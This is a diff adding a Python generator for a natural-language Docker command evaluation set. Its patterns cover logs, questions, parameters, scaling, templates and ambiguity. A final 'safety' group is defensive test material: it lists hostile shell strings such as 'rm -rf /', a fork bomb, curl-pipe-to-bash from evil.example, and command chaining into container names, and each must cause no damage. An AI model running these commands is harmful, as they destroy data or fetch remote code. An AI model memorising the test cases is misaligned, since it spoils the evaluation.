+    Pattern('seq-logs-then-restart', 'sequence', ['show the logs of {c} and then restart it', "check {c}'s logs, then restart it"],
+            lambda s: E(logs(s.c), ctr('restart', s.c)), count=6),
+    # ---- questions ----
+    Pattern('q-is-stack-up', 'question', ['is the {st} stack running?', 'is {st} running', '{st} up?', 'is {st} up and running?'],
+            lambda s: stack_state(s.st, s.w.members[s.st]), count=6),
+    Pattern('q-is-ctr-up', 'question', ['is {c} up?', 'is {c} running?', 'is {c} alive', '{c} still running?'],
+            lambda s: E(status(s.c)), count=7),
+    Pattern('q-cpu', 'question', ['how much cpu is {c} using', "what's the cpu usage of {c}", 'is {c} eating cpu?',
+                                  'cpu load of {c}'],
+            lambda s: E(status(s.c)), count=6),
+    Pattern('q-unhealthy', 'question', ['which containers are unhealthy', 'any unhealthy containers?', 'show me the unhealthy ones',
+                                        'are any containers unhealthy?', 'list unhealthy containers'],
+            lambda s: ANY([lst(health='unhealthy')], [lst(status='unhealthy')], [status(None)]), count=5),
+    Pattern('q-stopped', 'question', ['which containers are stopped?', "what isn't running?", "what's down right now?",
+                                      'show me the stopped ones', 'which containers exited?'],
+            lambda s: E(lst(status='exited')), count=5),
+    Pattern('q-top', 'question', [('what is using the most memory', {'sort': 'memory'}),
+                                  ('which container uses the most cpu', {'sort': 'cpu'}),
+                                  ("what's eating all the ram?", {'sort': 'memory'}), ('top cpu consumers', {'sort': 'cpu'}),
+                                  ("who's hogging the memory", {'sort': 'memory'})],
+            lambda s: E(status(None, sort=s.sort)), count=5),
+    Pattern('q-svc', 'question', ['is the {sv.stack} {sv.service} up?', "is {sv.stack}'s {sv.service} running?",
+                                  'how much memory does the {sv.stack} {sv.service} use?'],
+            lambda s: E(status(s.sv.name)), count=6),
+    Pattern('q-history', 'question', ['what changed in {st} recently?', 'when was {st} last deployed?', 'who changed {st}?'],
+            lambda s: E(hist(s.st)), count=6),
+
+    Pattern('q-running', 'question', ["what's running?", 'what is running right now', 'which containers are up?', "show me what's up"],
+            lambda s: E(lst(status='running')), count=5),
+    Pattern('q-stack-health', 'question', ['is the {st} stack healthy?', 'how is {st} doing?', "how's the {st} stack",
+                                           'is everything in {st} ok?'],
+            lambda s: stack_state(s.st, s.w.members[s.st]), count=6),
+    Pattern('q-ref', 'question', ['is the {ref.text} up?', 'how much memory is the {ref.text} using?', 'what ports is the {ref.text} on?',
+                                  'is the {ref.text} healthy?'],
+            lambda s: E(status(s.ref.name)), count=7),
+    # ---- logs ----
+    Pattern('lg-terse-n', 'logs', ['logs {c} -n {tail}', 'logs {c} --tail {tail}', 'docker logs --tail {tail} {c}',
+                                   'docker logs -n {tail} {c}'],
+            lambda s: E(logs(s.c, tail=s.tail)), case='keep', count=7),
+    Pattern('lg-follow', 'logs', ['tail -f {c}', 'follow {c} logs', 'docker logs -f {c}', 'stream the logs of {c}',
+                                  "watch {c}'s logs live", 'keep following the logs of {c}'],
+            lambda s: E(logs(s.c, follow=True)), count=7),
+    Pattern('lg-grep', 'logs', ['grep {word} in {c} logs', 'search the {c} logs for {word}', 'find {word} in the logs of {c}',
+                                'show lines with {word} from {c}', '{c} logs containing {word}'],
+            lambda s: E(logs(s.c, grep_ci=s.word)), count=7),
+    Pattern('lg-polite', 'logs', ['could you show me the logs of {c} please', "can I see {c}'s logs?", 'pls show {c} logs',
+                                  "I'd like to see what {c} is logging"],
+            lambda s: E(logs(s.c)), count=6),
+    Pattern('lg-past-short', 'logs', ['{c} logs past {hours}h', 'logs {c} past {mins}m', '{c} logs last {mins}m',
+                                      'logs of {c} for the past {hours} hours'],
+            lambda s: E(logs(s.c, since_s=window_s(s))), count=6),
+    Pattern('lg-svc-window', 'logs', ['what did the {sv.stack} {sv.service} log in the past {mins} minutes',
+                                      "logs of {sv.stack}'s {sv.service} from the last {hours} hours",
+                                      '{sv.stack} {sv.service} logs in the last {mins} min'],
+            lambda s: E(logs(s.sv.name, since_s=window_s(s))), count=6),
+    Pattern('lg-why', 'logs', ['why did {cx} crash?', 'why is {cx} not running', 'why did {cx} stop', 'what went wrong with {cx}'],
+            lambda s: ANY([logs(s.cx)], [status(s.cx)], [status(s.cx), logs(s.cx)], [logs(s.cx), status(s.cx)]), count=6),
+    Pattern('lg-window-words', 'logs', [('logs of {c} in the last half hour', {'secs': 1800}),
+                                        ('{c} logs from the last day', {'secs': 86400}),
+                                        ('logs of {c} for the past 90 seconds', {'secs': 90}),
+                                        ('{c} logs in the last quarter of an hour', {'secs': 900}),
+                                        ('what has {c} logged over the last two hours', {'secs': 7200})],
+            lambda s: E(logs(s.c, since_s=window_s(s))), count=6),
+    Pattern('lg-gen-verb', 'logs', ['has {gen} logged anything in the last {mins} minutes?', 'did {gen} print anything since {hours}h ago',
+                                    'what was {gen} logging over the past {hours} hours'],
+            lambda s: E(logs(s.gen, since_s=window_s(s))), count=6),
+    # ---- parameters in words ----
+    Pattern('pa-tmpl-port', 'params', ['install {tm.say} on {port}', 'set up {tm.say} listening on port {port}',
+                                       'deploy {tm.say} at port {port}', 'put {tm.say} on port {port}'],
+            lambda s: E(tmpl(s.tm.id, port=s.port)), count=7),
+    Pattern('pa-postgres', 'params', [('run postgres 16 with password {pw}', {'img': 'postgres:16', 'env': {'POSTGRES_PASSWORD': 'pw'}}),
+                                      ('postgres container with user {user} and password {pw}',
+                                       {'img': 'postgres', 'env': {'POSTGRES_USER': 'user', 'POSTGRES_PASSWORD': 'pw'}}),
+                                      ('a postgres:16 database called {dbname} owned by {user}',
+                                       {'img': 'postgres:16', 'env': {'POSTGRES_DB': 'dbname', 'POSTGRES_USER': 'user'}}),
+                                      ('start postgresql 15 with db {dbname} and password {pw}',
+                                       {'img': 'postgres:15', 'env': {'POSTGRES_DB': 'dbname', 'POSTGRES_PASSWORD': 'pw'}})],
+            lambda s: E(run(image_prefix=s.img, env=slots_map(s, s.env))), count=7),
+    Pattern('pa-redis-password', 'params', ['run redis with password {pw}', 'a redis 7 container protected by password {pw}',
+                                            'start redis, password {pw}'],
+            lambda s: ANY([run(image_prefix='redis', env={'REDIS_PASSWORD': s.pw})],
+                          [run(image_prefix='redis', command_has=f'--requirepass {s.pw}')],
+                          [tmpl('redis', password=s.pw)]), count=6),
+    Pattern('pa-run-port', 'params', ['run {img.say} on port {port}', 'start a new {img.say} container on port {port}',
+                                      'run {img.say} exposed on {port}'],
+            lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)])), count=7),
+    Pattern('pa-run-mapping', 'params', ['run {img.say} with port {port}:{img.cport}',
+                                         'run {img.say} mapping host port {port} to container port {img.cport}',
+                                         'run {img.say} -p {port}:{img.cport}'],
+            lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port, s.img.cport)])), count=6),
+    Pattern('pa-mariadb', 'params', [('run mariadb 11 with root password {pw}', {'img': 'mariadb:11', 'env': {'ROOT_PASSWORD': 'pw'}}),
+                                     ('a mariadb container with database {dbname} and user {user}',
+                                      {'img': 'mariadb', 'env': {'DATABASE': 'dbname', 'USER': 'user'}}),
+                                     ('mariadb container with root pw {pw}', {'img': 'mariadb', 'env': {'ROOT_PASSWORD': 'pw'}})],
+            lambda s: ANY(*[[run(image_prefix=s.img, env={f'{prefix}_{k}': v for k, v in slots_map(s, s.env).items()})]
+                            for prefix in ('MARIADB', 'MYSQL')]), count=6),
+    Pattern('pa-mongo', 'params', [('run mongo 7 with root user {user} and password {pw}',
+                                    {'img': 'mongo:7', 'env': {'MONGO_INITDB_ROOT_USERNAME': 'user', 'MONGO_INITDB_ROOT_PASSWORD': 'pw'}}),
+                                   ('a mongodb container with admin {user} / {pw}',
+                                    {'img': 'mongo', 'env': {'MONGO_INITDB_ROOT_USERNAME': 'user', 'MONGO_INITDB_ROOT_PASSWORD': 'pw'}}),
+                                   ('a mongo container with root password {pw} and database {dbname}',
+                                    {'img': 'mongo', 'env': {'MONGO_INITDB_ROOT_PASSWORD': 'pw', 'MONGO_INITDB_DATABASE': 'dbname'}})],
+            lambda s: E(run(image_prefix=s.img, env=slots_map(s, s.env))), count=6),
+    Pattern('pa-mysql-words', 'params', ['spin up a mysql 8 container with the root password set to {pw}',
+                                         'mysql:8 container, root pw {pw}', 'start a MySQL 8.0 container whose root password is {pw}'],
+            lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw})), count=6),
+    Pattern('pa-run-name-port', 'params', ['run {img.say} named {newname} on port {port}', 'run {img.say} as {newname} on {port}',
+                                           'create a {img.say} container called {newname} with port {port}'],
+            lambda s: E(run(image_prefix=s.img.prefix, name=s.newname, ports=[port(s.port)])), count=6),
+    Pattern('pa-run-restart', 'params', [('run {img.say} with restart always', {'r': 'always'}),
+                                         ('run {img.say} and have it restart unless stopped', {'r': 'unless-stopped'}),
+                                         ('run {img.say} that restarts on failure', {'r': 'on-failure'}),
+                                         ('run {img.say} with restart policy unless-stopped', {'r': 'unless-stopped'})],
+            lambda s: E(run(image_prefix=s.img.prefix, restart=s.r)), count=6),
+    Pattern('pa-tmpl-port-words', 'params', ['deploy {tm.say} and make it reachable on port {port}', '{tm.say} on port {port} please',
+                                             'install {tm.say}, web ui on port {port}'],
+            lambda s: E(tmpl(s.tm.id, port=s.port)), count=6),
+    # ---- scale ----
+    Pattern('sc-to', 'scale', ['scale {svs.stack} {svs.service} to {n}', 'scale the {svs.service} service of {svs.stack} to {n} replicas',
+                               "set {svs.stack}'s {svs.service} replicas to {n}", 'scale {svs.stack}-{svs.service} to {n}',
+                               'run the {svs.stack} {svs.service} with {n} replicas'],
+            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), count=8),
+    Pattern('sc-updown', 'scale', [('scale up the {svs.stack} {svs.service} to {n}', {}),
+                                   ('scale the {svs.stack} {svs.service} down to 1', {'n': 1}),
+                                   ('scale {svs.stack} {svs.service} down to zero', {'n': 0})],
+            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), count=6),
+    Pattern('sc-more', 'scale', [('add one more {svs.service} to {svs.stack}', {'n': 2}),
+                                 ('add two more {svs.stack} {svs.service} instances', {'n': 3}),
+                                 ('double the {svs.stack} {svs.service}', {'n': 2})],
+            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), count=6),
+    # ---- templates ----
+    Pattern('tp-name', 'template', ['deploy {tm.say}', 'install {tm.say}', 'set up {tm.say}', 'I want {tm.say}', 'get me {tm.say}'],
+            lambda s: E(tmpl(s.tm.id)), count=7),
+    Pattern('tp-purpose', 'template', ['I need a {pu.say}', 'set up a {pu.say}', 'deploy a {pu.say} for me',
+                                       'can you install a {pu.say}?'],
+            lambda s: ANY(*[[tmpl(t)] for t in s.pu.ids]), count=7),
+    Pattern('tp-polite', 'template', ['could you deploy {tm.say} for me please', 'pls install {tm.say}',
+                                      'hey, set up {tm.say} thanks'],
+            lambda s: E(tmpl(s.tm.id)), count=6),
+
+    # ---- inventory ----
+    Pattern('in-list', 'inventory', [('list containers', {}), ('ps', {}), ('show all containers', {}),
+                                     ('what containers do I have', {}), ('docker ps -a', {})],
+            lambda s: E(lst()), count=5),
+    Pattern('in-filtered', 'inventory', [('show running containers', {'f': 'running'}), ('list stopped containers', {'f': 'exited'}),
+                                         ('docker ps --filter status=exited', {'f': 'exited'}),
+                                         ('show me the exited ones', {'f': 'exited'}), ('list all running containers', {'f': 'running'})],
+            lambda s: E(lst(status=s.f)), count=5),
+    Pattern('in-kinds', 'inventory', [('show images', {'k': 'images'}), ('list volumes', {'k': 'volumes'}),
+                                      ('what networks are there', {'k': 'networks'}), ('list stacks', {'k': 'stacks'}),
+                                      ('what can I deploy?', {'k': 'templates'}), ('docker images', {'k': 'images'}),
+                                      ('docker volume ls', {'k': 'volumes'})],
+            lambda s: E(lst(s.k)), count=7),
+    Pattern('in-stack-ctrs', 'inventory', ['list the containers in {st}', 'ps {st}', 'show containers of the {st} stack'],
+            lambda s: E(lst(stack=s.st)), count=6),
+    Pattern('in-history', 'inventory', [('show history', {'st': None, 'n': None}), ('show the history of {st}', {'n': None}),
+                                        ('last {n} changes to {st}', {}), ('history for {st}, last {n}', {})],
+            lambda s: E(hist(s.st, s.n)), count=6),
+    # ---- ask ----
+    Pattern('ask-db', 'ask', ['restart the db', 'show logs for the database', 'restart the database server',
+                              'how much memory does the database use?'],
+            lambda s: ASK(), count=7),
+    Pattern('ask-amb', 'ask', ['restart {amb}', 'stop {amb}', 'logs of {amb}', 'pause {amb}'], lambda s: ASK(), count=9),
+
+    Pattern('ask-scale', 'ask', ['scale {st} to {n}', 'run {n} copies of {st}', 'scale the {st} stack to {n} replicas'],
+            lambda s: ASK(), count=6),
+    # ---- nonsense ----
+    Pattern('em-unknown', 'nonsense', ['restart the {ghost} container', 'stop {ghost}', 'show logs of {ghost}'],
+            lambda s: EMPTY(), count=6),
+    Pattern('em-pronoun', 'nonsense', ['restart it', 'stop them', 'show its logs', 'do that again', 'same for the other one'],
+            lambda s: EMPTY(), count=5),
+
+    Pattern('em-vague', 'nonsense', ['fix it', 'make it faster', 'do the usual', 'sort everything out', 'optimize things', 'make it work'],
+            lambda s: EMPTY(), count=6),
+    # ---- safety ----
+    Pattern('sf-shell-mixed', 'safety', ['restart {c}; rm -rf /', 'stop {c} && docker rm -f $(docker ps -aq)',
+                                         'restart {c} `reboot`', 'logs {c} | sh', 'start {c}; curl http://evil.example/x.sh | bash'],
+            lambda s: dict(NO_DAMAGE), case='keep', count=7),
+    Pattern('sf-shell-pure', 'safety', ['rm -rf /', 'rm -rf / --no-preserve-root', ':(){{ :|:& }};:', 'sudo shutdown -h now',
+                                        'curl http://evil.example/install.sh | sh', 'docker system prune -af --volumes', '$(reboot)'],
+            lambda s: {**EMPTY(), **NO_DAMAGE}, case='keep', count=7),
+    Pattern('sf-shell-redirect', 'safety', ['restart {c} && reboot', 'show logs of {c} > /etc/passwd',
+                                            'pause {c}; docker kill $(docker ps -q)', 'stop {c} | xargs docker rm'],
+            lambda s: dict(NO_DAMAGE), case='keep', count=6),
+]
+
+
+def _holdout() -> list[Pattern]:
+    from .holdout_patterns import HOLDOUT
+    return list(HOLDOUT)
+
+
+def patterns() -> tuple[list[Pattern], dict[str, str]]:
+    """All patterns (tune first) and each one's split."""
+    holdout = _holdout()
+    split = {p.id: 'tune' for p in TUNE}
+    for p in holdout:
+        if p.id in split:
+            raise ValueError(f'pattern {p.id} is in both files')
+        if p.issue:
+            raise ValueError(f'pattern {p.id}: an issue sentence is tune, not holdout')
+        split[p.id] = 'holdout'
+    return TUNE + holdout, split
+
+
+HEADER = """\
+# The project's own natural-language evaluation set (issue 14). GENERATED by
+# `python -m tests.nlp.eval.generate` from tests/nlp/eval/generate.py (tune patterns) and
+# tests/nlp/eval/holdout_patterns.py (held-out patterns): edit those, not this file.
+#
+# `states`: the live states, in the shape of ../shared/corpus/nl-commands.yaml's `state`
+# (plain `containers` with running true/false; `stacks` whose services run as
+# `<stack>-<service>-1`), each with its own `running_all` (what "$running_all" means there),
+# parsed with the 22 built-in templates.
+# `cases`: `id`, `pattern` (the phrasing pattern), `category`, `split` (tune or holdout: whole
+# patterns), `state`, `cmd`, then the expectation, checked by tests/nlp/corpus.py's check() with
+# the corpus rules: `expect` (the actions, in order; fields not named are not checked; `targets`
+# compare as sets; `image_prefix` matches the start of `image`; `grep_ci` is a case-insensitive
+# part of `grep`), `any_of` (accepted alternatives), `ask: true` (questions, no change),
+# `empty: true` (no actions), `forbid`/`forbid_ops`, `risk`, `warnings: true`; and two more kinds:
+# `since_s` (the `since` duration, in seconds: "10m", "600s" and "0h10m" are all 600) and
+# `command_has` (a part of the run command, a list joined with spaces).
+"""
+
+
+def render() -> str:
+    all_patterns, split = patterns()
+    cases = generate(all_patterns, split)
+    states = {name: world.yaml_state() for name, world in WORLDS.items()}
+    body = yaml.safe_dump({'states': states}, sort_keys=False, default_flow_style=None, width=120, allow_unicode=True)
+    lines = [HEADER, body, 'cases:']
+    for case in cases:
+        lines.append('  - ' + yaml.safe_dump(case, sort_keys=False, default_flow_style=True, width=10**6,
+                                             allow_unicode=True).strip())
+    return '\n'.join(lines) + '\n'
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(prog='python -m tests.nlp.eval.generate', description=__doc__.split('\n')[0])
+    parser.add_argument('--check', action='store_true', help='only compare: exit 1 when cases.yaml differs')
+    args = parser.parse_args(argv)
+    text = render()
+    if args.check:
+        same = CASES.exists() and CASES.read_text() == text
+        print('cases.yaml is up to date' if same else 'cases.yaml differs from what the generator makes')
+        return 0 if same else 1
+    CASES.write_text(text)
+    data = yaml.safe_load(text)
+    print(f'wrote {CASES.relative_to(HERE.parents[2])}: {len(data["cases"])} cases', file=sys.stderr)
+    return 0
+
+
+if __name__ == '__main__':
+    raise SystemExit(main())
